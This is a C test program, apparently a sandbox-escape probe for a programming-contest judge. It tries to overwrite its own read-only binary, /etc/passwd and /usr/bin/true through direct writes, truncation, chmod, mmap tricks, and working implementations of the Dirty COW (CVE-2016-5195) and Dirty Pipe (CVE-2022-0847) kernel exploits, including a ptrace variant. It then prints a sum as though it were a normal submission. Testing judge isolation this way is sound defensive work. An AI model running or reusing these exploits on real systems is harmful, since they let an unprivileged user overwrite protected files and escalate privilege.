// K19: tries to change a file that it can only read: its own program. Where that works the file of the judge is
// changed.
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { SIZE = 4096, SECONDS = 1, OFFSET = 2048 };
static const char *target = "/program/program";
static char *mapped, before[SIZE], after[SIZE];
static volatile int done;

static void read_page(char *page) {
    int fd = open(target, O_RDONLY);
    if (fd < 0 || pread(fd, page, SIZE, 0) != SIZE) dprintf(2, "ESCAPED: %s is gone: %m\n", target);
    close(fd);
}

static void report(const char *what, int answer) {
    if (answer < 0) dprintf(2, "%s: %m\n", what);
    else dprintf(2, "ESCAPED: %s\n", what);
}

/// By name, by content, by mode, by a map.
static void plainly(const char *path) {
    dprintf(2, "%s\n", path);
    report("opened for writing", open(path, O_RDWR));
    report("truncated", truncate(path, 0));
    report("its mode changed", chmod(path, 0777));
    report("linked", link(path, "/box/linked"));
    int fd = open(path, O_RDONLY);
    report("mapped for writing", mmap(0, SIZE, PROT_WRITE, MAP_SHARED, fd, 0) == MAP_FAILED ? -1 : 0);
    report("mapped and then made writable",
           mprotect(mmap(0, SIZE, PROT_READ, MAP_SHARED, fd, 0), SIZE, PROT_READ | PROT_WRITE));
    char again[32];
    snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
    report("opened again by its descriptor", open(again, O_RDWR));
    report("removed", unlink(path));
}

/// The judge's copy of the program; what every run of the slot sees; what the host has.
static void plain(void) {
    plainly(target);
    report("another file beside it", open("/program/new", O_WRONLY | O_CREAT, 0644));
    report("renamed", rename(target, "/program/other"));
    plainly("/etc/passwd");
    plainly("/usr/bin/true");
}

static void *drop(void *unused) {
    while (!done) madvise(mapped, SIZE, MADV_DONTNEED);
    return 0;
}

/// CVE-2016-5195: a write to a private mapping races with its being dropped, and lands in the file. The write has to
/// pass by the kernel, which /proc/self/mem is made for; a pipe read into the mapping is the other way.
static void cow(void) {
    pthread_t thread;
    int file = open(target, O_RDONLY), memory = open("/proc/self/mem", O_RDWR), ends[2];
    if (memory < 0) perror("/proc/self/mem");
    pipe(ends);
    mapped = mmap(0, SIZE, PROT_READ, MAP_PRIVATE, file, 0);
    pthread_create(&thread, 0, drop, 0);
    for (time_t end = time(0) + SECONDS; time(0) <= end;) {
        if (memory >= 0) pwrite(memory, "gavel-k19", 9, (off_t)(mapped + OFFSET));
        write(ends[1], "gavel-k19", 9);
        read(ends[0], mapped + OFFSET, 9);
        char sink[16];
        fcntl(ends[0], F_SETFL, O_NONBLOCK);
        while (read(ends[0], sink, sizeof sink) > 0) {}
    }
    done = 1;
    pthread_join(thread, 0);
}

/// CVE-2022-0847: a pipe whose buffers may be merged, emptied, is given a page of the file, and written to.
static void through_a_pipe(void) {
    int file = open(target, O_RDONLY), ends[2];
    char filler[4096] = {0};
    pipe(ends);
    int size = fcntl(ends[1], F_GETPIPE_SZ);
    for (int i = 0; i < size; i += sizeof filler) write(ends[1], filler, sizeof filler);
    for (int i = 0; i < size; i += sizeof filler) read(ends[0], filler, sizeof filler);
    loff_t offset = OFFSET - 1;
    if (splice(file, &offset, ends[1], 0, 1, 0) != 1) perror("splice");
    write(ends[1], "gavel-k19", 9);
}

/// Dirty COW by a debugger's write.
static void poke(void) {
    int status;
    mapped = mmap(0, SIZE, PROT_READ, MAP_PRIVATE, open(target, O_RDONLY), 0);
    pid_t pid = fork();
    if (pid == 0) for (;;) pause();
    ptrace(PTRACE_ATTACH, pid, 0, 0);
    waitpid(pid, &status, 0);
    ptrace(PTRACE_POKEDATA, pid, mapped + OFFSET, 0x6b);
    kill(pid, SIGKILL);
}

int main(int argc, char **argv) {
    long long a, b;
    if (scanf("%lld %lld", &a, &b) != 2) return 1;
    read_page(before);
    if (!strcmp(argv[1], "plain")) plain();
    if (!strcmp(argv[1], "cow")) cow();
    if (!strcmp(argv[1], "pipe")) through_a_pipe();
    if (!strcmp(argv[1], "poke")) poke();
    read_page(after);
    dprintf(2, memcmp(before, after, SIZE) ? "ESCAPED: the file is another\n" : "the file is what it was\n");
    printf("%lld\n", a + b);
    return 0;
}
